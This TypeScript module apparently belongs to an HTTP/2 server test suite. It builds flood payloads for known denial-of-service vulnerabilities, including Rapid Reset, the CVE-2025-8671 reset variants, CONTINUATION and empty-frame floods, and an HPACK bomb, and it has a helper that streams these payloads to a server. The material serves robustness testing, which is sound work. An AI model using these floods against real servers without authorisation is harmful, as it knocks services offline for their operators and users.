import { Buffer } from 'node:buffer';
import { once } from 'node:events';
import type { Http2Client } from './http2-client.ts';
import { plainBlock } from './http2-hpack.ts';
import { requestBlock } from './http2-request-block.ts';
import {
  continuation,
  data,
  frame,
  headers,
  ping,
  priority,
  priorityUpdate,
  rstStream,
  settings,
  windowUpdate,
} from './http2-wire.ts';

/** A flood as a client may send it: the octets of its `index`th unit, of whatever frames one unit has. */
export type Http2Flood = (index: number) => Buffer;

const GET = requestBlock();
const POST = requestBlock({ method: 'POST' });

const END_OF_BODY = data(1, '', { endStream: true });
const END_OF_BLOCK = continuation(1, Buffer.alloc(0));

/** Floods on streams of their own begin at stream 1: they need a fresh connection. */
export const HTTP2_FLOODS = {
  ping: () => ping('flooding'),
  pingAck: () => ping('flooding', { ack: true }),
  settings: () => settings([['INITIAL_WINDOW_SIZE', 65_535]]),
  emptySettings: () => settings(),
  priority: (index: number) => priority(1 + 2 * (index % 1000), { dependency: 2 * (index % 7) }),
  priorityUpdate: (index: number) => priorityUpdate(1 + 2 * (index % 100), `u=${index % 8}`),
  unknownFrame: () => frame(0xfa, 0, 0),
  connectionWindow: () => windowUpdate(0, 1),
  /** CVE-2023-44487: a request and its cancellation. */
  rapidReset: (index: number) => Buffer.concat([request(index), rstStream(streamOf(index), 'CANCEL')]),
  /** CVE-2019-9514: requests that the server has to reset. */
  malformedRequest: (index: number) => headers(streamOf(index), BAD, { endStream: true }),
  /** CVE-2025-8671, by a WINDOW_UPDATE of nothing. */
  resetByZeroWindow: (index: number) => Buffer.concat([request(index), windowUpdate(streamOf(index), 0)]),
  /** CVE-2025-8671, by a window that overflows. */
  resetByWindowOverflow: (index: number) =>
    Buffer.concat([request(index), windowUpdate(streamOf(index), 0x7fffffff)]),
  /** CVE-2025-8671, by a dependency on itself. */
  resetBySelfDependency: (index: number) =>
    Buffer.concat([request(index), priority(streamOf(index), { dependency: streamOf(index) })]),
  /** CVE-2025-8671, by a body that is longer than declared. */
  resetByContentLength: (index: number) =>
    Buffer.concat([headers(streamOf(index), SHORT), data(streamOf(index), 'too long', { endStream: true })]),
  /** CVE-2025-8671, by DATA behind the end of the request. */
  resetByClosedStream: (index: number) => Buffer.concat([request(index), data(streamOf(index), 'late')]),
} as const satisfies Readonly<Record<string, Http2Flood>>;

/** Floods of one stream: the head comes before them, and the end would make them legal in small. */
export const HTTP2_STREAM_FLOODS = {
  /** CVE-2019-9518. */
  emptyData: { head: headers(1, POST), unit: data(1, ''), end: END_OF_BODY },
  paddedData: { head: headers(1, POST), unit: data(1, '', { pad: 255 }), end: END_OF_BODY },
  /** VU#421644: a field block without end. */
  continuation: {
    head: headers(1, GET, { endStream: true, endHeaders: false }),
    unit: continuation(1, plainBlock([['x-more', 'a'.repeat(1000)]]), { endHeaders: false }),
    end: END_OF_BLOCK,
  },
  emptyContinuation: {
    head: headers(1, GET, { endStream: true, endHeaders: false }),
    unit: continuation(1, Buffer.alloc(0), { endHeaders: false }),
    end: END_OF_BLOCK,
  },
  /** CVE-2019-9516: fields of no length. */
  emptyFields: {
    head: headers(1, GET, { endStream: true, endHeaders: false }),
    unit: continuation(1, plainBlock(new Array(1000).fill(['', ''])), { endHeaders: false }),
    end: END_OF_BLOCK,
  },
  streamWindow: { head: headers(1, POST), unit: windowUpdate(1, 1), end: END_OF_BODY },
} as const;

/**
 * Sends units, in batches and no faster than the kernel takes them, until the server ends the connection or `most` were sent; returns
 * how many were. The kernel's buffers hold more than the server reads, so this says how much a flood can send, not how much it
 * takes until the server acts: that is what the frames that came say.
 */
export async function flood(
  client: Http2Client,
  unit: Http2Flood | Buffer,
  most: number,
  batch = 100,
): Promise<number> {
  const { socket } = client.peer;
  let sent = 0;
  while (sent < most && !client.peer.hasEnded) {
    const size = Math.min(batch, most - sent);
    const from = sent;
    const units = Array.from({ length: size }, (_, i) =>
      typeof unit === 'function' ? unit(from + i) : unit,
    );
    sent += size;
    if (!socket.write(Buffer.concat(units)) && !client.peer.hasEnded)
      await Promise.race([once(socket, 'drain').catch(() => {}), client.peer.ended, client.peer.closed]);
    // What came meanwhile is heard in between.
    await new Promise((resolve) => setImmediate(resolve));
  }
  return sent;
}

/** A dictionary entry, referred to as often as a frame allows: small on the wire, large when decoded (the HPACK bomb). */
export function hpackBomb(streamId: number, entryBytes: number, references: number): Buffer {
  const name = 'x'.repeat(entryBytes / 2);
  const entry = Buffer.concat([Buffer.of(0x40), plainBlock([[name, name]]).subarray(1)]);
  return headers(streamId, Buffer.concat([GET, entry, Buffer.alloc(references, 0xbe)]), { endStream: true });
}

const SHORT = Buffer.concat([POST, plainBlock([['content-length', '3']])]);
const BAD = Buffer.concat([GET, plainBlock([['connection', 'close']])]);

function streamOf(index: number): number {
  return 1 + 2 * index;
}

function request(index: number): Buffer {
  return headers(streamOf(index), GET, { endStream: true });
}
